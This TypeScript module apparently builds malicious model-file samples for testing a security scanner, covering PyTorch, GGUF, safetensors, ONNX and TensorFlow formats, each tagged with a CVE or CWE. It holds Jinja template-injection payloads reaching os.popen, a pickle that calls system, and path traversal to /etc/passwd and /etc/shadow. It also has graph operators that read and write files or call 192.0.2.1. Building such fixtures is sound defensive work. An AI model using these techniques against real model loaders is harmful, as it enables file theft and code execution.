import { bytes, floats, u32, u64, utf8, zeros } from '../bytes';
import { PAYLOAD, proto } from '../pickle-assembler';
import { numberField, sizedField } from '../protobuf-builder';
import { dataPkl, text, torch } from '../torch-builder';
import { zipOf } from '../zip-builder';
import type { FileCase } from './file-case';
import { fileCases } from './file-case';

const EVIL = proto(2, PAYLOAD);
const json = (value: unknown): Uint8Array => utf8(JSON.stringify(value));
/** The root of Jinja's objects from a text: `os.popen` is some steps away. */
const ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
const POPEN = "{{ cycler.__init__.__globals__.os.popen('echo hi').read() }}";

const message = (...fields: readonly Uint8Array[]): Uint8Array => bytes(...fields);
const texts = (value: string): Uint8Array => bytes(u64(value.length), value);

const script = (line: string): Uint8Array =>
  torch([
    dataPkl(),
    { name: 'archive/constants.pkl', data: proto(2, ')') },
    {
      name: 'archive/code/__torch__/m.py',
      data: bytes(`class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    ${line}\n    return x\n`)
    }
  ]);

const pytorch = fileCases(
  'PyTorch beyond the pickle',
  ['TorchScript that saves a file', 'save.pt', script('_0 = torch.save(x, "/tmp/x")'), 'TorchScript operators'],
  ['the same with blanks', 'blanks.pt', script('_0 = torch . save (x, "/tmp/x")'), 'TorchScript operators'],
  [
    'TorchScript that reads a file',
    'read.pt',
    script('_0 = torch.from_file("/etc/passwd", False, 10)'),
    'TorchScript operators'
  ],
  [
    'an exported program with code in a size',
    'size.pt2',
    zipOf([
      {
        name: 'm/models/model.json',
        data: json({ nodes: [], sizes: [{ expr_str: '__import__("os").system("echo hi")' }] })
      },
      text('m/archive_format', 'pt2'),
      text('m/archive_version', '0')
    ]),
    'torch.export, sympify'
  ],
  [
    'an exported program with a native library',
    'native.pt2',
    zipOf([
      { name: 'm/models/model.json', data: json({ nodes: [] }) },
      { name: 'm/data/aotinductor/model/model.so', data: bytes('\x7fELF\x02\x01\x01', zeros(57)) },
      text('m/archive_format', 'pt2'),
      text('m/archive_version', '0')
    ]),
    'torch.export, AOTInductor'
  ],
  [
    'a pickle among the sample inputs',
    'inputs.pt2',
    zipOf([
      { name: 'm/models/model.json', data: json({ nodes: [] }) },
      { name: 'm/data/sample_inputs/model.pt', data: torch([dataPkl(PAYLOAD)]) },
      text('m/archive_format', 'pt2'),
      text('m/archive_version', '0')
    ]),
    'torch.export, pt2 archives'
  ]
);

const gguf = (pairs: readonly Uint8Array[], count = pairs.length): Uint8Array =>
  bytes('GGUF', u32(3), u64(0), u64(count), ...pairs);
const pair = (key: string, value: string): Uint8Array => bytes(texts(key), u32(8), texts(value));
const ggufTensor = (name: string, shape: readonly number[], type: number, offset: number): Uint8Array =>
  bytes(texts(name), u32(shape.length), ...shape.map(u64), u32(type), u64(offset));
const ggufOf = (...tensors: readonly Uint8Array[]): Uint8Array =>
  bytes('GGUF', u32(3), u64(tensors.length), u64(0), ...tensors, zeros(256));

const ggufs = fileCases(
  'GGUF',
  [
    'a template that walks to Python’s classes',
    'template.gguf',
    gguf([pair('tokenizer.chat_template', ESCAPE)]),
    'CVE-2024-34359'
  ],
  ['a second template', 'second.gguf', gguf([pair('tokenizer.chat_template.tool_use', POPEN)]), 'CVE-2026-5760'],
  ['elements that overflow', 'overflow.gguf', ggufOf(ggufTensor('w', [2 ** 40, 2 ** 40], 0, 0)), 'CVE-2025-53630'],
  [
    'tensors on the same bytes',
    'overlap.gguf',
    ggufOf(ggufTensor('a', [32], 0, 0), ggufTensor('b', [32], 0, 0)),
    'CWE-823'
  ],
  ['an offset behind the end', 'behind.gguf', ggufOf(ggufTensor('a', [32], 0, 2 ** 40)), 'CWE-125'],
  ['more pairs than bytes', 'count.gguf', gguf([pair('general.architecture', 'llama')], 2 ** 40), 'TALOS-2024-1914']
);

const safe = (header: string, data: Uint8Array, length = header.length): Uint8Array => bytes(u64(length), header, data);
const described = (tensors: unknown): string => JSON.stringify(tensors);
const span = (start: number, end: number): unknown => ({
  dtype: 'F32',
  shape: [(end - start) / 4],
  data_offsets: [start, end]
});

const safetensors = fileCases(
  'safetensors',
  [
    'tensors on the same bytes',
    'overlap.safetensors',
    safe(described({ a: span(0, 8), b: span(4, 12) }), floats(3)),
    'safetensors audit 2023'
  ],
  [
    'a hole',
    'hole.safetensors',
    safe(described({ a: span(0, 8), b: span(16, 24) }), floats(6)),
    'safetensors audit 2023'
  ],
  [
    'bytes behind the last tensor',
    'tail.safetensors',
    safe(described({ a: span(0, 8) }), bytes(floats(2), EVIL)),
    'safetensors audit 2023'
  ],
  [
    'a key that stands twice',
    'twice.safetensors',
    safe(`{"a":${JSON.stringify(span(0, 8))},"a":${JSON.stringify(span(0, 4))}}`, floats(2)),
    'safetensors audit 2023'
  ],
  [
    'a shape of another size',
    'shape.safetensors',
    safe(described({ a: { dtype: 'F32', shape: [100], data_offsets: [0, 8] } }), floats(2)),
    'CWE-125'
  ],
  ['a header of 2**40 bytes', 'header.safetensors', safe('{"a":1}', floats(2), 2 ** 40), 'CWE-789'],
  [
    'a pickle among the metadata',
    'pickle.safetensors',
    safe(described({ __metadata__: { x: 'gAJjcG9zaXgKc3lzdGVtClgHAAAAZWNobyBoaYVSLg==' }, a: span(0, 8) }), floats(2)),
    'CWE-502'
  ]
);

const node = (type: string, domain = '', ...more: readonly Uint8Array[]): Uint8Array =>
  sizedField(1, message(sizedField(1, 'x'), sizedField(2, 'y'), sizedField(4, type), sizedField(7, domain), ...more));
const entry = (key: string, value: string): Uint8Array =>
  sizedField(13, message(sizedField(1, key), sizedField(2, value)));
const external = (...entries: readonly Uint8Array[]): Uint8Array =>
  sizedField(5, message(numberField(1, 2), numberField(2, 1), sizedField(8, 'w'), ...entries, numberField(14, 1)));
const onnx = (...graph: readonly Uint8Array[]): Uint8Array =>
  message(
    numberField(1, 8),
    sizedField(2, 'test'),
    sizedField(7, message(...graph, sizedField(2, 'g'))),
    sizedField(8, numberField(2, 17))
  );

const onnxFiles = fileCases(
  'ONNX',
  [
    'weights in an absolute path',
    'absolute.onnx',
    onnx(node('Add'), external(entry('location', '/etc/passwd'))),
    'CVE-2022-25882'
  ],
  [
    'weights above the folder',
    'above.onnx',
    onnx(node('Add'), external(entry('location', '../../etc/passwd'))),
    'CVE-2022-25882'
  ],
  [
    'the same behind a folder',
    'behind.onnx',
    onnx(node('Add'), external(entry('location', 'a/../../etc/passwd'))),
    'CVE-2024-27318'
  ],
  [
    'weights from an address',
    'address.onnx',
    onnx(node('Add'), external(entry('location', 'https://example.org/w'))),
    'CWE-918'
  ],
  [
    'the tag for memory',
    'memory.onnx',
    onnx(node('Add'), external(entry('location', '*/_ORT_MEM_ADDR_/*'), entry('offset', '4096'), entry('length', '8'))),
    'onnxruntime issue 28709'
  ],
  [
    'an unknown key',
    'key.onnx',
    onnx(node('Add'), external(entry('location', 'w.bin'), entry('__class__', 'x'))),
    'CVE-2026-34445'
  ],
  ['an operator that is Python', 'python.onnx', onnx(node('PyOp', 'ai.onnx.contrib')), 'ONNX Runtime extensions'],
  ['an operator of a library', 'library.onnx', onnx(node('Run', 'evil.ops')), 'ONNX Runtime, custom operators'],
  [
    'a path in a branch',
    'branch.onnx',
    onnx(
      node(
        'If',
        '',
        sizedField(
          5,
          message(
            sizedField(1, 'then_branch'),
            sizedField(6, message(external(entry('location', '/etc/shadow')))),
            numberField(20, 5)
          )
        )
      )
    ),
    'CVE-2022-25882'
  ]
);

const textValue = (value: string): Uint8Array =>
  sizedField(8, message(numberField(1, 7), sizedField(2, bytes()), sizedField(8, value)));
const tfNode = (
  name: string,
  op: string,
  inputs: readonly string[] = [],
  ...attrs: readonly Uint8Array[]
): Uint8Array =>
  sizedField(
    1,
    message(sizedField(1, name), sizedField(2, op), ...inputs.map(input => sizedField(3, input)), ...attrs)
  );
const attr = (key: string, value: Uint8Array): Uint8Array =>
  sizedField(5, message(sizedField(1, key), sizedField(2, value)));
const constant = (name: string, value: string): Uint8Array =>
  tfNode(name, 'Const', [], attr('value', textValue(value)));
const savedModel = (...graph: readonly Uint8Array[]): Uint8Array =>
  message(
    numberField(1, 1),
    sizedField(
      2,
      message(
        sizedField(1, message(sizedField(4, 'serve'), sizedField(5, '2.15.0'))),
        sizedField(2, message(...graph)),
        sizedField(
          5,
          message(
            sizedField(1, 'serving_default'),
            sizedField(2, sizedField(2, message(sizedField(1, 'out'), sizedField(2, sizedField(1, 'out:0')))))
          )
        )
      )
    )
  );
const inFunction = (...nodes: readonly Uint8Array[]): Uint8Array =>
  sizedField(
    2,
    sizedField(
      1,
      message(sizedField(1, sizedField(1, '__inference_f')), ...nodes.map(one => bytes([0x1a], one.slice(1))))
    )
  );

const tensorflow = fileCases(
  'TensorFlow',
  [
    'WriteFile',
    'saved_model.pb',
    savedModel(constant('p', '/tmp/x'), constant('c', 'echo hi'), tfNode('out', 'WriteFile', ['p', 'c'])),
    'modelscan, TensorAbuse'
  ],
  [
    'ReadFile',
    'saved_model.pb',
    savedModel(constant('p', '/etc/passwd'), tfNode('out', 'ReadFile', ['p'])),
    'modelscan, TensorAbuse'
  ],
  [
    'WriteFile in a function',
    'saved_model.pb',
    savedModel(
      tfNode('out', 'PartitionedCall'),
      inFunction(constant('p', '/tmp/x'), constant('c', 'x'), tfNode('w', 'WriteFile', ['p', 'c']))
    ),
    'TensorAbuse'
  ],
  [
    'WriteFile in a graph in a text',
    'saved_model.pb',
    savedModel(
      constant('g', String.fromCharCode(...message(constant('p', '/tmp/x'), tfNode('w', 'WriteFile', ['p', 'p'])))),
      tfNode('out', 'DatasetFromGraph', ['g'])
    ),
    'tfhunt: nested graphs'
  ],
  [
    'MatchingFiles',
    'saved_model.pb',
    savedModel(constant('p', '/home/*'), tfNode('out', 'MatchingFiles', ['p'])),
    'TensorAbuse'
  ],
  [
    'PrintV2 into a file',
    'saved_model.pb',
    savedModel(
      constant('p', 'x'),
      tfNode('out', 'PrintV2', ['p'], attr('output_stream', sizedField(2, 'file:///tmp/x')))
    ),
    'TensorAbuse'
  ],
  [
    'a debugger that calls out',
    'saved_model.pb',
    savedModel(
      constant('p', 'x'),
      tfNode('out', 'DebugIdentityV2', ['p'], attr('debug_urls', sizedField(1, sizedField(2, 'grpc://192.0.2.1:80'))))
    ),
    'TensorAbuse'
  ],
  [
    'a call to another machine',
    'saved_model.pb',
    savedModel(constant('p', '192.0.2.1:80'), tfNode('out', 'RpcClient', ['p', 'p'])),
    'TensorAbuse'
  ],
  [
    'PyFunc',
    'saved_model.pb',
    savedModel(tfNode('out', 'PyFunc', [], attr('token', sizedField(2, 'pyfunc_0')))),
    'modelaudit'
  ],
  [
    'a Lambda layer',
    'keras_metadata.pb',
    sizedField(
      1,
      message(
        numberField(2, 1),
        sizedField(3, 'root.l'),
        sizedField(4, '_tf_keras_layer'),
        sizedField(
          5,
          JSON.stringify({
            class_name: 'Lambda',
            config: {
              name: 'l',
              function: {
                class_name: '__tuple__',
                items: [
                  '4wEAAAAAAAAAAAAAAAEAAAADAAAA8wYAAACXAHwAUwApAU6pAKkB2gF4cwEAAAAgegg8bGFtYmRhPtoIPGxhbWJkYT5yBgAAAAEAAABzBgAAAIAAmAGAAPMAAAAA',
                  null,
                  null
                ]
              },
              function_type: 'lambda',
              module: '__main__'
            }
          })
        )
      )
    ),
    'modelscan'
  ]
);

/** Tricks of formats of tensors and graphs. */
export const TENSOR_FILES: readonly FileCase[] = [...pytorch, ...ggufs, ...safetensors, ...onnxFiles, ...tensorflow];
